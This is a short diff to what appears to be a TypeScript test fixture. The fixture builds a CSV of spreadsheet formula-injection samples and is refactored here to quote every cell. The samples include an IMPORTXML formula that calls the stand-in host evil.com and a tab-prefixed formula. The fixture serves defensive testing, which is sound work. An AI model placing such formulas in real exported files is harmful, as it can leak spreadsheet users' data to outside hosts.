@@ -132,7 +132,8 @@ export function csvWithFormulaCells(): Buffer {
     '\t=1+1',
     '=IMPORTXML("http://evil.example";"//a")',
   ];
-  const rows = formulas.map((f, i) => `formula-${i};"${f.replace(/"/g, '""')}";"${f.replace(/"/g, '""')}";an-giang;${f};31/12/2099;${f}`);
+  const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
+  const rows = formulas.map((f, i) => [`formula-${i}`, f, f, 'an-giang', f, '31/12/2099', f].map(quoted).join(';'));
   return Buffer.from(`\ufeff${[header, ...rows].join('\r\n')}\r\n`, 'utf8');
 }
 
